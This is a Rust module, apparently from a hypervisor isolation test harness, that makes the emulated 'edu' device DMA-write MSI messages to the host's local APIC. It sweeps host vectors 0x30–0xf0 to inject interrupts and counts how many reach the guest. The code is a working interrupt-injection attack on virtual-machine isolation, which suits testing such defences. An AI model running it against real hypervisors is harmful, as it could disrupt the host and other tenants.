//! Interrupts by DMA: `edu` writes messages to a local APIC of the host itself, past its own MSI.
//!
//! The vectors that Cohort gave to this guest's devices are not told, so all that it gives to devices are tried. One of them stands for
//! `edu`'s own MSI, so that this guest sees it arrive; the others are somebody's, or nobody's. Only the local APIC of this guest's own
//! CPU is attacked: a message can do harm wherever it arrives.

use super::attack::Attacker;
use crate::edu::LEN;
use crate::pci::Msi;
use crate::rt::{Failure, interrupts, time};

/// This guest's vector for MSI of `edu`.
const VECTOR: u8 = 0x51;

/// Host vectors that are tried, and how many in one transfer.
const TRIED: core::ops::Range<u8> = 0x30..0xf0;
const EACH: usize = LEN / WORD / 4;

/// Bytes of a message.
const WORD: usize = 4;

/// Milliseconds after which an interrupt that was raised has arrived.
const ARRIVES: u32 = 20;

/// Attacks the host's local APIC `apic`, and says how many interrupts came of it.
///
/// # Errors
/// The device does not work.
pub(super) fn attack(attacker: &mut Attacker, apic: u8) -> Result<u64, Failure> {
    let edu = attacker.edu();
    let msi = Msi::enable(edu.function(), VECTOR)?;
    let start = interrupts::count(VECTOR);
    edu.raise();
    time::sleep(ARRIVES);
    let own = interrupts::count(VECTOR) - start;
    if own != 1 {
        return Err(format_args!("{}: its MSI came {own} times, not once", edu.address()).into());
    }
    let before = interrupts::count(VECTOR);
    let address = 0xfee0_0000 | u64::from(apic) << 12;
    for first in TRIED.step_by(EACH) {
        // Bits 2 and 3 of the address say more than where: only each fourth word is a message to just this APIC. The
        // others carry the same, to whoever answers to that number as a logical one, which is nobody.
        let mut words = [0; LEN];
        for (at, word) in words.chunks_exact_mut(WORD).enumerate() {
            let vector = first.saturating_add((at / 4) as u8).min(TRIED.end - 1);
            word.copy_from_slice(&u32::from(vector).to_le_bytes());
        }
        attacker.write_words(&words, address)?;
        time::sleep(ARRIVES);
    }
    let came = interrupts::count(VECTOR) - before;
    msi.disable();
    Ok(came)
}
